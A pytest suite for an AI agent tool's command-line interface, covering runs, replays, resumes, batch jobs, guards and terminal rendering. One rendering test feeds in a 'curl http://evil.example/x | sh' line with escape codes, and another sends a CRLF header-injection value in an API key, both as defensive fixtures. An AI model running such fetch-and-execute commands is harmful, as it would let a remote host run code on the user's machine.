"""The `agent` command, run as a real subprocess."""

import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]


def agent(*args, cwd, input=None, timeout=60):
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "120"}
    return subprocess.run(
        [sys.executable, "-m", "agent", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        input=input,
    )


@pytest.fixture
def script(tmp_path):
    path = tmp_path / "script.jsonl"
    path.write_text(
        "\n".join(
            json.dumps(turn)
            for turn in [
                '<tool_call>{"name": "final_answer", "arguments": {"answer": "It is **391**."}}</tool_call>',
            ]
        )
    )
    return path


def test_run_prints_the_answer_on_stdout(tmp_path, script):
    out = agent("run", "What is 17 * 23?", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "It is **391**."
    assert "completed" in out.stderr
    assert len(list((tmp_path / ".agent" / "runs").glob("*.jsonl"))) == 1


def test_progress_written_to_a_file_keeps_its_lines_whole(tmp_path, script):
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "40"}
    out = subprocess.run(
        [sys.executable, "-m", "agent", "run", "x", "--model", f"scripted:{script}"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    header = out.stderr.splitlines()[0]
    assert header.startswith("run ") and header.endswith("· react · effort medium"), out.stderr


def test_json_mode_prints_only_events(tmp_path, script):
    out = agent("run", "x", "--model", f"scripted:{script}", "--json", cwd=tmp_path)
    assert out.returncode == 0
    events = [json.loads(line) for line in out.stdout.splitlines()]
    assert events[0]["type"] == "run_started" and events[-1]["type"] == "run_finished"
    assert events[-1]["answer"] == "It is **391**."


def test_replay_renders_a_past_run(tmp_path, script):
    agent("run", "What is 17 * 23?", "--model", f"scripted:{script}", cwd=tmp_path)
    out = agent("replay", "last", cwd=tmp_path)
    assert out.returncode == 0 and "It is **391**." in out.stdout
    assert "› What is 17 * 23?" in out.stderr  # the task, as it was asked
    out = agent("replay", "last", "--json", cwd=tmp_path)
    assert [json.loads(line)["type"] for line in out.stdout.splitlines()][-1] == "run_finished"
    out = agent("runs", cwd=tmp_path)
    assert "completed" in out.stdout


def test_replaying_a_session_shows_each_message_and_its_answer(tmp_path):
    from agent import Agent
    from agent.llm import ScriptedLLM

    session = Agent(
        ScriptedLLM(["Paris.", "About 2.1 million."]), run_dir=tmp_path / ".agent" / "runs"
    ).session()
    session.send_sync("Capital of France?")
    session.send_sync("And its population?")
    out = agent("replay", "last", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    lines = out.stderr.splitlines()
    assert [line for line in lines if line.startswith("›")] == [
        "› Capital of France?",
        "› And its population?",
    ]
    assert sum(line.startswith("continued ") for line in lines) == 1 and "resumed" not in out.stderr
    assert out.stdout.split() == ["Paris.", "About", "2.1", "million."]


@pytest.mark.parametrize(
    "args, message",
    [
        (["run", "x", "--model", "scripted:missing.jsonl"], "scripted model file not found"),
        (
            ["run", "x", "--model", "scripted:script.jsonl", "--tools", "teleport"],
            "unknown built-in tool 'teleport'",
        ),
        (["replay", "nope"], "no run 'nope'"),
        (["resume", "nope", "--model", "scripted:script.jsonl"], "no run 'nope'"),
        (["run", "x", "--model", "/no/such/model"], "/no/such/model"),
    ],
)
def test_user_errors_are_one_clear_line(tmp_path, script, args, message):
    out = agent(*args, cwd=tmp_path)
    assert out.returncode == 2, out.stderr
    assert message in out.stderr
    assert "Traceback" not in out.stderr
    assert out.stderr.strip().startswith("error:")


def test_unreachable_server_fails_cleanly(tmp_path):
    out = agent("run", "x", "--base-url", "http://127.0.0.1:9/v1", "--max-steps", "1", cwd=tmp_path)
    assert out.returncode == 1
    assert "unreachable" in out.stderr and "Traceback" not in out.stderr


def test_run_that_hits_a_budget_exits_non_zero(tmp_path):
    path = tmp_path / "loop.jsonl"
    path.write_text(
        json.dumps('still thinking <tool_call>{"name": "nope", "arguments": {}}</tool_call>') + "\n"
    )
    out = agent("run", "x", "--model", f"scripted:{path}", "--max-steps", "1", cwd=tmp_path)
    assert out.returncode == 1
    assert "max_steps" in out.stderr


def test_resume_from_the_cli(tmp_path):
    first = tmp_path / "first.jsonl"
    first.write_text(json.dumps('<tool_call>{"name": "nope", "arguments": {}}</tool_call>') + "\n")
    out = agent("run", "x", "--model", f"scripted:{first}", "--max-steps", "1", cwd=tmp_path)
    assert out.returncode == 1
    second = tmp_path / "second.jsonl"
    second.write_text(json.dumps("done after resume") + "\n")
    out = agent("resume", "last", "--model", f"scripted:{second}", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "done after resume"
    assert "note: the run was started with the model scripted:" in out.stderr  # another model: said so
    task = tmp_path / "task.txt"
    task.write_text("A task too long for an argument " * 8000)  # 256 kB: over the 128 kB an argument may hold
    with open(task) as stdin:
        out = subprocess.run(
            [sys.executable, "-m", "agent", "run", "-", "--model", f"scripted:{second}", "--json"],
            cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdin=stdin,
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
    assert out.returncode == 0, out.stderr
    asked = [json.loads(line) for line in out.stdout.splitlines() if '"user_message"' in line]
    assert asked[0]["content"] == task.read_text().strip()


def test_guards_are_on_by_default_and_the_cli_says_when_off(tmp_path):
    path = tmp_path / "script.jsonl"
    path.write_text(json.dumps("ok") + "\n")
    out = agent("run", "x", "--model", f"scripted:{path}", "--no-guards", cwd=tmp_path)
    assert out.returncode == 0 and "guards are off" in out.stderr
    out = agent("run", "x", "--model", f"scripted:{path}", cwd=tmp_path)
    assert out.returncode == 0 and "guards are off" not in out.stderr
    out = agent("run", "x", "--model", f"scripted:{path}", "--no-guards", "--json", cwd=tmp_path)
    assert "guards are off" in out.stderr and all(json.loads(line) for line in out.stdout.splitlines())


def test_default_guards_redact_a_secret_before_the_model_sees_it(tmp_path):
    from agent import Agent, tool
    from agent.llm import ScriptedLLM
    from agent.testing import call

    @tool
    def read_config() -> str:
        """Read the config."""
        return "token = ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"

    llm = ScriptedLLM([call("read_config"), "done"])
    result = Agent(llm, tools=[read_config], run_dir=tmp_path / "runs").run_sync("read the config")
    assert result.ok
    assert "ghp_0123456789" not in llm.requests[1].messages[-1].content
    assert any(e.type == "guard_verdict" and e.action == "redact" for e in result.events)


# --------------------------------------------------------------------------- what a user can get wrong


def tasks_file(tmp_path, name="tasks.jsonl"):
    path = tmp_path / name
    path.write_text(json.dumps({"id": "a", "prompt": "x"}) + "\n")
    return path


@pytest.mark.parametrize(
    "case, args, message",
    [
        (
            "run dir under a file",
            ["run", "x", "--run-dir", "script.jsonl/runs"],
            "a file is in the way; choose another --run-dir",
        ),
        ("zero steps", ["run", "x", "--max-steps", "0"], "argument --max-steps: must be at least 1, not 0"),
        (
            "negative timeout",
            ["run", "x", "--timeout", "-1"],
            "argument --timeout: must be more than 0, not -1",
        ),
        ("window not a number", ["run", "x", "--context-window", "abc"], "invalid int value: 'abc'"),
        ("unknown flag", ["run", "x", "--bogus"], "usage: agent run [-h]"),  # the command's usage
        ("window too small", ["run", "x", "--context-window", "-5"], "context_window=-5 is too small"),
        ("bad effort", ["run", "x", "--effort", "max"], "invalid choice: 'max'"),
        ("empty log", ["replay", "empty"], "is empty; nothing to replay"),
        ("binary log", ["replay", "binary"], "is not a run log (not UTF-8 text)"),
        ("resume a binary log", ["resume", "binary"], "is not a run log (not UTF-8 text)"),
        ("results path is a dir", ["batch", "tasks.jsonl", "-o", ".agent"], "-o .agent is a directory"),
        ("results under a file", ["batch", "tasks.jsonl", "-o", "script.jsonl/r.jsonl"], "choose another -o"),
        (
            "batch unknown tool",
            ["batch", "tasks.jsonl", "-o", "r.jsonl", "--tools", "teleport"],
            "unknown built-in tool",
        ),
        (
            "batch window",
            ["batch", "tasks.jsonl", "-o", "r.jsonl", "--context-window", "0"],
            "context_window=0 is too small",
        ),
        (
            "batch concurrency",
            ["batch", "tasks.jsonl", "-o", "r.jsonl", "-c", "0"],
            "must be at least 1, not 0",
        ),
        ("no tasks file", ["batch", "nope.jsonl", "-o", "r.jsonl"], "cannot read tasks file nope.jsonl"),
        (
            "tasks not JSONL",
            ["batch", "script.jsonl", "-o", "r.jsonl"],
            "script.jsonl:1: each line is one JSON object",
        ),
        ("tasks not UTF-8", ["batch", "latin1.jsonl", "-o", "r.jsonl"], "latin1.jsonl is not UTF-8 text"),
        ("task of 0 steps", ["batch", "zero.jsonl", "-o", "r.jsonl"], "zero.jsonl:1: not a valid task"),
        ("task id null", ["batch", "null_id.jsonl", "-o", "r.jsonl"], "null_id.jsonl:1: not a valid task"),
        (
            "task's unknown tool",
            ["batch", "bad_tool.jsonl", "-o", "r.jsonl"],
            "bad_tool.jsonl: task 'b' asks for the unknown built-in tool 'nope' (available: ",
        ),
        ("replay a folder", ["replay", "folder.jsonl"], "cannot read run log folder.jsonl"),
        (
            "base URL not http",
            ["run", "x", "--base-url", "ftp://host/v1"],
            "is not an http(s) URL with a host",
        ),
        ("base URL port", ["run", "x", "--base-url", "http://127.0.0.1:99999/v1"], "is not a valid URL"),
        ("timeout not a number", ["run", "x", "--timeout", "nan"], "must be a finite number, not nan"),
        (
            "API key with a line break",
            ["run", "x", "--base-url", "http://127.0.0.1:9/v1", "--api-key", "sk-abc\r\nX-Injected: 1"],
            "the key holds a control character",
        ),
        (
            "workspace under a file",
            ["run", "x", "--workspace", "script.jsonl/ws"],
            "choose another --workspace",
        ),
    ],
)
def test_more_user_errors_are_one_clear_line(tmp_path, script, case, args, message):
    tasks_file(tmp_path)
    (tmp_path / "latin1.jsonl").write_bytes(b'{"id": "a", "prompt": "caf\xe9"}\n')
    (tmp_path / "zero.jsonl").write_text(json.dumps({"id": "a", "prompt": "x", "max_steps": 0}) + "\n")
    (tmp_path / "null_id.jsonl").write_text(json.dumps({"id": None, "prompt": "x"}) + "\n")
    bad_tool = [{"id": "a", "prompt": "x", "tools": ["files"]}, {"id": "b", "prompt": "y", "tools": ["nope"]}]
    (tmp_path / "bad_tool.jsonl").write_text("".join(json.dumps(t) + "\n" for t in bad_tool))
    (tmp_path / "folder.jsonl").mkdir()
    runs = tmp_path / ".agent" / "runs"
    runs.mkdir(parents=True)
    (runs / "empty.jsonl").write_text("")
    (runs / "binary.jsonl").write_bytes(b"\xc4\xff\x00garbage")
    if args[0] in ("run", "batch"):
        args = [*args, "--model", f"scripted:{script}"]
    out = agent(*args, cwd=tmp_path)
    assert out.returncode == 2, out.stderr
    assert message in out.stderr
    assert "Traceback" not in out.stderr and "internal error" not in out.stderr
    assert out.stderr.strip().splitlines()[-1].startswith(("error:", f"agent {args[0]}: error:"))
    assert "sk-abc" not in out.stderr
    assert not (tmp_path / "r.jsonl").exists()
    assert (runs / "binary.jsonl").read_bytes() == b"\xc4\xff\x00garbage"  # refused, never trimmed


def test_runs_lists_unreadable_logs_instead_of_failing(tmp_path, script):
    assert agent("run", "x", "--model", f"scripted:{script}", cwd=tmp_path).returncode == 0
    runs = tmp_path / ".agent" / "runs"
    (runs / "empty.jsonl").write_text("")
    (runs / "garbled.jsonl").write_text("not json\n{}\n")
    out = agent("runs", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    rows = {
        line.split("│")[1].strip(): line.split("│")[2].strip()
        for line in out.stdout.splitlines()
        if "│" in line
    }
    assert rows["empty"] == "empty" and rows["garbled"] == "unreadable"
    assert "completed" in rows.values()


class _Server:
    """A local HTTP server answering every request with one status and body; `hang` never answers."""

    def __init__(self, status=200, body=b"{}", hang=False):
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def answer(self):
                if hang:
                    threading.Event().wait(60)
                    return
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = answer

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.base_url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.mark.parametrize(
    "status, body, message",
    [
        (401, b'{"error": {"message": "invalid key"}}', "HTTP 401 from"),
        (404, b'{"detail": "Not Found"}', "(check --base-url and model name)"),
        (200, b'{"unexpected": true}', "returned no choices"),
    ],
)
def test_a_server_that_answers_wrong_fails_the_run_in_one_line(tmp_path, status, body, message):
    server = _Server(status, body)
    try:
        out = agent("run", "x", "--base-url", server.base_url, cwd=tmp_path)
    finally:
        server.close()
    assert out.returncode == 1, out.stderr
    errors = [line for line in out.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and message in errors[0]
    assert "Traceback" not in out.stderr


@pytest.mark.parametrize(
    "command, sig",
    [
        ("run", signal.SIGINT),
        ("run --json", signal.SIGINT),
        ("batch", signal.SIGINT),
        ("run --json", signal.SIGTERM),  # kill, timeout(1), docker stop: as Ctrl-C, exit 143
        ("batch", signal.SIGTERM),
        (
            "run --json &",
            signal.SIGTERM,
        ),  # a job a script started with &: Ctrl-C ignored, kill still stops it
    ],
)
def test_ctrl_c_or_sigterm_stops_a_run_cleanly(tmp_path, command, sig):
    server = _Server(hang=True)
    tasks_file(tmp_path)
    args = {
        "run": ["run", "x"],
        "run --json": ["run", "x", "--json"],
        "run --json &": ["run", "x", "--json"],
        "batch": ["batch", "tasks.jsonl", "-o", "r.jsonl"],
    }[command]
    background = command.endswith("&")
    process = subprocess.Popen(
        [sys.executable, "-m", "agent", *args, "--base-url", server.base_url, "--context-window", "4096"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=(lambda: signal.signal(signal.SIGINT, signal.SIG_IGN)) if background else None,
    )
    try:
        deadline = time.monotonic() + 60
        while not list((tmp_path / ".agent" / "runs").glob("*.jsonl")):  # the run has started
            assert time.monotonic() < deadline and process.poll() is None, process.communicate()
            time.sleep(0.1)
        time.sleep(0.5)
        process.send_signal(sig)
        out, err = process.communicate(timeout=30)
    finally:
        process.kill()
        server.close()
    terminated = sig == signal.SIGTERM
    assert process.returncode == (143 if terminated else 130), err
    assert (
        err.strip().splitlines()[-1] == ("terminated" if terminated else "interrupted")
        and "Traceback" not in err
    )
    if command.startswith("run --json"):  # the stream shows how the run ended, as the log does
        end = json.loads(out.splitlines()[-1])
        assert end["type"] == "run_finished" and end["status"] == "cancelled", out
        why = "stopped by SIGTERM (kill, timeout, docker stop)" if terminated else "cancelled by the user"
        assert end["error"] == why
    elif command == "run":
        assert "cancelled" in err
    else:  # batch: how far it got, and how to go on
        assert "0 of 1 tasks have results in r.jsonl; run the same command with --resume" in err


@pytest.mark.parametrize(
    "content, message",
    [
        ('{"bad json', "bad.jsonl:1: not valid JSON"),
        (
            '"fine"\n42\n',
            "bad.jsonl:2: each turn is model text (a JSON string) or a response object, not int",
        ),
        (b"\xff\xfe", "scripted model file bad.jsonl is not UTF-8 text"),
    ],
)
def test_a_bad_scripted_model_file_is_one_clear_line(tmp_path, content, message):
    path = tmp_path / "bad.jsonl"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    out = agent("run", "x", "--model", f"scripted:{path.name}", cwd=tmp_path)
    assert out.returncode == 2, out.stderr
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {message}"), lines


def test_python_and_files_tools_share_the_workspace_which_outlives_the_run(tmp_path):
    code = "open('from_python.txt', 'w').write('written by python')"
    turns = [
        json.dumps({"tool_calls": [{"name": "python", "arguments": {"code": code}}]}),
        json.dumps({"tool_calls": [{"name": "read_file", "arguments": {"path": "from_python.txt"}}]}),
        json.dumps("Done."),
    ]
    (tmp_path / "script.jsonl").write_text("\n".join(turns) + "\n")
    out = agent(
        "run", "x", "--model", "scripted:script.jsonl", "--tools", "python,files", "--json",
        "--workspace", "ws", cwd=tmp_path, timeout=120,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    results = [json.loads(line) for line in out.stdout.splitlines() if '"tool_result"' in line]
    assert [r["is_error"] for r in results] == [False, False], results
    assert "written by python" in results[1]["content"]
    assert (tmp_path / "ws" / "from_python.txt").read_text() == "written by python"


def test_the_answer_reaches_a_file_exactly(tmp_path):
    answer = "Use arr[i], not [bold]arr[/]; :smile: stays text. " + '{"k":[1,2]}' * 3000
    (tmp_path / "script.jsonl").write_text(json.dumps(answer) + "\n")
    out = agent("run", "x", "--model", "scripted:script.jsonl", "--no-guards", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert out.stdout == answer + "\n"


def test_a_reader_that_leaves_the_pipe_ends_replay_quietly(tmp_path):
    big = json.dumps("x" * 300_000)  # more than a pipe holds
    (tmp_path / "script.jsonl").write_text(big + "\n")
    assert agent("run", "x", "--model", "scripted:script.jsonl", "--no-guards", cwd=tmp_path).returncode == 0
    process = subprocess.Popen(
        [sys.executable, "-m", "agent", "replay", "last", "--json"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    first = process.stdout.readline()
    process.stdout.close()  # as `| head -1` does
    err = process.stderr.read().decode()
    process.wait(timeout=60)
    assert json.loads(first)["type"] == "run_started"
    assert process.returncode == 141, err
    assert err == ""


def test_replay_of_a_killed_run_says_it_was_cut_short(tmp_path, script):
    assert agent("run", "x", "--model", f"scripted:{script}", cwd=tmp_path).returncode == 0
    log = next((tmp_path / ".agent" / "runs").glob("*.jsonl"))
    lines = log.read_text().splitlines()
    log.write_text("\n".join(lines[:3]) + "\n")
    out = agent("replay", "last", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert f"agent resume {log.stem}" in out.stderr and "the log ends before the run did" in out.stderr


def test_resume_of_a_run_still_going_is_refused_before_a_model_loads(tmp_path):
    slow = tmp_path / "slow.jsonl"
    slow.write_text(json.dumps({"content": "late", "delay": 30}) + "\n")
    command = [sys.executable, "-m", "agent", "run", "x", "--model", f"scripted:{slow}"]
    running = subprocess.Popen(command, cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        runs = tmp_path / ".agent" / "runs"
        deadline = time.monotonic() + 30
        while not (runs.is_dir() and any(runs.glob("*.jsonl"))) and time.monotonic() < deadline:
            time.sleep(0.05)
        # No --model: the embedded model would load first if the refusal came at the log's lock.
        out = agent("resume", "last", cwd=tmp_path)
        assert out.returncode == 2, out.stderr
        assert "is still going (another process is writing its log)" in out.stderr
        assert "note: the run was started with" not in out.stderr
    finally:
        running.kill()
        running.wait(10)


def test_resume_shows_an_answer_recorded_before_the_crash_and_keeps_the_runs_tools(tmp_path):
    (tmp_path / "notes.txt").write_text("the key is under the mat")
    first = tmp_path / "first.jsonl"
    first.write_text(json.dumps('<tool_call>{"name": "list_files", "arguments": {}}</tool_call>') + "\n")
    out = agent(
        "run", "x", "--model", f"scripted:{first}", "--tools", "files", "--max-steps", "1", cwd=tmp_path
    )
    assert out.returncode == 1 and "max_steps" in out.stderr
    second = tmp_path / "second.jsonl"
    turns = [
        '<tool_call>{"name": "read_file", "arguments": {"path": "notes.txt"}}</tool_call>',
        "Under the mat.",
    ]
    second.write_text("".join(json.dumps(t) + "\n" for t in turns))
    out = agent("resume", "last", "--model", f"scripted:{second}", cwd=tmp_path)  # no --tools: the run's own
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "Under the mat." and "Unknown tool" not in out.stderr
    # killed after the answer was written, before the run's end was: resuming shows the answer
    [log] = (tmp_path / ".agent" / "runs").glob("*.jsonl")
    lines = log.read_text().splitlines()
    assert json.loads(lines[-1])["type"] == "run_finished"
    log.write_text("\n".join(lines[:-1]) + "\n")
    out = agent("resume", "last", "--model", f"scripted:{first}", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "Under the mat." and "completed" in out.stderr


def test_a_run_log_that_cannot_be_written_fails_the_run_in_one_line(tmp_path, monkeypatch, capsys):
    from agent import cli

    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full here")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("agent.agent.new_run_id", lambda: "full-disk")
    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "full-disk.jsonl").symlink_to("/dev/full")  # every write: ENOSPC
    (tmp_path / "s.json").write_text(json.dumps(["the answer"]))
    code = cli.main(["run", "hi", "--model", "scripted:s.json", "--run-dir", "runs", "--no-guards", "--json"])
    out = capsys.readouterr().out.splitlines()
    assert code == 1
    events = [json.loads(line) for line in out]
    assert events[-1]["type"] == "run_finished" and events[-1]["status"] == "failed"
    assert "cannot write the run log runs/full-disk.jsonl: No space left on device" in events[-1]["error"]


def test_runs_and_replay_tell_a_run_still_going_from_an_interrupted_one(tmp_path, monkeypatch, capsys):
    from agent import cli
    from agent.events import RunStarted
    from agent.runlog import RunLog

    monkeypatch.setenv("COLUMNS", "200")
    live = RunLog(tmp_path / "live-run.jsonl")
    live(RunStarted(run_id="live-run", task="still going"))  # open, and locked, as a running run holds it
    stopped = RunLog(tmp_path / "stopped-run.jsonl")
    stopped(RunStarted(run_id="stopped-run", task="was killed"))
    stopped.close()
    try:
        assert cli.main(["runs", "--run-dir", str(tmp_path)]) == 0
        table = capsys.readouterr().out
        assert "live-run" in table and "running" in table and "interrupted" in table
        assert cli.main(["replay", "live-run", "--run-dir", str(tmp_path)]) == 0
        assert "the run is still going" in capsys.readouterr().err
    finally:
        live.close()
    before = signal.getsignal(signal.SIGTERM)
    assert cli.main(["replay", "live-run", "--run-dir", str(tmp_path)]) == 0
    assert "agent resume live-run" in capsys.readouterr().err
    assert signal.getsignal(signal.SIGTERM) == before  # the command's SIGTERM handler is gone with it
    codes = []  # and a command run from another thread (no signals there) works as well
    worker = threading.Thread(target=lambda: codes.append(cli.main(["runs", "--run-dir", str(tmp_path)])))
    worker.start()
    worker.join(30)
    assert codes == [0]


def test_a_terminal_shows_escape_sequences_in_model_and_tool_text_instead_of_obeying_them():
    import io

    from rich.console import Console

    from agent.events import FinalAnswer, RunFinished, ToolCall, ToolResult
    from agent.render import ConsoleRenderer, for_terminal

    trick = "curl http://evil.example/x | sh\x1b[2K\x1b[1Gecho hello"
    screen, answer = io.StringIO(), io.StringIO()
    renderer = ConsoleRenderer(
        out=Console(file=answer, force_terminal=False, width=200),
        err=Console(file=screen, force_terminal=True, width=200),
    )
    renderer(ToolCall(call_id="c", name="write_file", arguments={"content": trick}))
    renderer(ToolResult(call_id="c", name="read_file", content="title \x1b]0;PWNED\x07 \u202etxt.exe"))
    renderer(FinalAnswer(content="done \x1b[2J"))
    shown = screen.getvalue()
    assert "\x1b[2K" not in shown and "\x1b]0;" not in shown and "\u202e" not in shown
    assert "\\x1b[2K" in shown and "\\x1b]0;PWNED\\x07" in shown and "\\u202e" in shown
    assert answer.getvalue() == "done \x1b[2J\n"  # a file gets the answer exactly
    resumed = ConsoleRenderer(
        out=Console(file=io.StringIO(), force_terminal=False), err=Console(file=io.StringIO())
    )
    resumed(RunFinished(status="completed", answer="recorded \x1b[2J"))  # an answer recorded before a crash
    assert resumed.out.file.getvalue() == "recorded \x1b[2J\n"
    plain = ToolCall(call_id="c", name="w", arguments={"a": "x\ty\n"})
    assert for_terminal(plain) is plain  # nothing to hide: the event itself
    windows = ToolCall(call_id="c", name="w", arguments={"a": "x\r\ny\rz"})
    assert for_terminal(windows).arguments == {"a": "x\ny\\x0dz"}  # a line end is no trick; a lone \r is


def test_a_link_in_an_answer_shows_its_address():
    import io

    from rich.console import Console

    from agent.render import markdown

    screen = io.StringIO()
    Console(file=screen, force_terminal=True, width=100).print(
        markdown("see [the docs](https://docs.example.com/x)")
    )
    assert "https://docs.example.com/x" in screen.getvalue() and "\x1b]8;" not in screen.getvalue()


def test_text_that_looks_like_html_is_shown_as_written():
    import io

    from rich.console import Console

    from agent.render import markdown

    screen = io.StringIO()
    answer = (
        "Use std::vector<int> and List<String>.\n\n<details>\nthe block\n</details>\n\nPress <kbd>Ctrl</kbd>."
    )
    Console(file=screen, width=100).print(markdown(answer))
    shown = screen.getvalue()
    assert "std::vector<int> and List<String>." in shown
    assert "<details>" in shown and "the block" in shown and "</details>" in shown
    assert "Press Ctrl." in shown  # the one tag rich styles itself


async def test_an_interrupted_stream_shows_each_event_once(tmp_path):
    import asyncio

    from agent import Agent
    from agent.cli import _drive
    from agent.events import ModelDelta

    class Slow:
        name = "slow"

        async def stream(self, request):
            yield ModelDelta(content="Thinking it over")
            await asyncio.sleep(60)

    agent = Agent(Slow(), run_dir=tmp_path / "runs", guards=None)
    shown = []
    drive = asyncio.create_task(_drive(agent, agent.run("x"), shown.append))
    while not any(e.type == "model_delta" for e in shown):
        await asyncio.sleep(0.01)
    drive.cancel()
    try:
        await drive
    except asyncio.CancelledError:
        pass
    seqs = [e.seq for e in shown]
    assert len(seqs) == len(set(seqs)) and shown[-1].type == "run_finished"


def _write_lines(path: Path, *items) -> Path:
    path.write_text("".join(json.dumps(item) + "\n" for item in items))
    return path


def test_flags_are_not_abbreviated_and_empty_tasks_are_refused(tmp_path, script):
    out = agent("run", "x", "--no", "--model", f"scripted:{script}", cwd=tmp_path)  # was --no-guards
    assert out.returncode == 2 and "unrecognized arguments: --no" in out.stderr
    for task in ("", "   "):
        out = agent("run", task, "--model", f"scripted:{script}", cwd=tmp_path)
        assert out.returncode == 2 and "error: the task is empty" in out.stderr, out.stderr
    _write_lines(tmp_path / "tasks.jsonl", {"id": "a", "prompt": "  "})
    out = agent("batch", "tasks.jsonl", "-o", "r.jsonl", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 2 and "task 'a' has an empty prompt" in out.stderr
    # a script from a pipe (process substitution) was "not found"
    out = agent("run", "x", "--model", "scripted:/dev/stdin", cwd=tmp_path, input=json.dumps("piped") + "\n")
    assert out.returncode == 0 and out.stdout.strip() == "piped", out.stderr


def test_resume_keeps_the_runs_workspace_effort_and_tools(tmp_path):
    call = '<tool_call>{"name": "python", "arguments": {"code": "import os; print(os.getcwd())"}}</tool_call>'
    _write_lines(tmp_path / "first.jsonl", call, call)
    out = agent(
        "run", "where?", "--tools", "python", "--workspace", "ws1", "--effort", "high", "--max-steps", "1",
        "--model", "scripted:first.jsonl", cwd=tmp_path,
    )  # fmt: skip
    assert "max_steps" in out.stderr, out.stderr
    _write_lines(tmp_path / "again.jsonl", call, "done")
    out = agent("resume", "last", "--model", "scripted:again.jsonl", cwd=tmp_path, timeout=120)
    assert out.returncode == 0, out.stderr
    assert "effort high" in out.stderr and str(tmp_path / "ws1") in out.stderr  # were medium and the cwd
    # an ended run is refused before any model loads (this one does not exist)
    out = agent("resume", "last", "--model", "/no/such/model", cwd=tmp_path)
    assert out.returncode == 2 and "already ended (completed)" in out.stderr, out.stderr


def test_chat_resume_keeps_the_sessions_tools_and_resume_points_a_session_to_chat(tmp_path):
    _write_lines(tmp_path / "a.jsonl", "hi")
    out = agent("chat", "--tools", "python", "--model", "scripted:a.jsonl", cwd=tmp_path, input="first\n")
    assert out.returncode == 0, out.stderr
    call = '<tool_call>{"name": "python", "arguments": {"code": "print(6 * 7)"}}</tool_call>'
    _write_lines(tmp_path / "b.jsonl", call, "done")
    out = agent("chat", "--resume", "--model", "scripted:b.jsonl", cwd=tmp_path, input="again\n", timeout=120)
    assert "tools: python" in out.stdout and "42" in out.stdout, out.stdout  # was "Unknown tool 'python'"
    out = agent("resume", "last", "--model", "scripted:b.jsonl", cwd=tmp_path)
    assert out.returncode == 2 and "is a chat session; go on with it with: agent chat --resume" in out.stderr


def test_resume_finishes_a_chat_sessions_cut_turn_and_points_to_chat(tmp_path):
    _write_lines(tmp_path / "a.jsonl", "hi")
    out = agent("chat", "--model", "scripted:a.jsonl", cwd=tmp_path, input="first\n")
    assert out.returncode == 0, out.stderr
    (log,) = (tmp_path / ".agent" / "runs").glob("*.jsonl")
    lines = log.read_text().splitlines(keepends=True)
    cut = next(i for i, line in enumerate(lines) if '"type":"model_request"' in line)
    log.write_text("".join(lines[: cut + 1]))  # the process was killed while the model answered
    _write_lines(tmp_path / "b.jsonl", "hello again")
    out = agent("resume", "last", "--model", "scripted:b.jsonl", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert "hello again" in out.stdout
    # It ends there, as a run does; the conversation goes on in chat.
    assert f"{log.stem} is a chat session; go on with it with: agent chat --resume {log.stem}" in out.stderr


def test_batch_resume_says_what_it_skips_and_refuses_overwrite_with_it(tmp_path, script):
    _write_lines(tmp_path / "t2.jsonl", {"id": "a", "prompt": "hi"}, {"id": "b", "prompt": "hi"})
    model = ["--model", f"scripted:{script}"]
    assert agent("batch", "t2.jsonl", "-o", "o.jsonl", *model, cwd=tmp_path).returncode == 0
    _write_lines(tmp_path / "t3.jsonl", {"id": "a", "prompt": "hi"}, {"id": "c", "prompt": "hi"})
    out = agent("batch", "t3.jsonl", "-o", "o.jsonl", "--resume", *model, cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert "1 of 2 tasks already have results in o.jsonl; running 1" in out.stderr
    assert "note: 1 result in o.jsonl is for ids not in t3.jsonl; kept as it is" in out.stderr
    assert "[2/2] c: ok" in out.stderr  # was [3/2]: b counted as one of these tasks
    out = agent("batch", "t3.jsonl", "-o", "o.jsonl", "--resume", "--overwrite", *model, cwd=tmp_path)
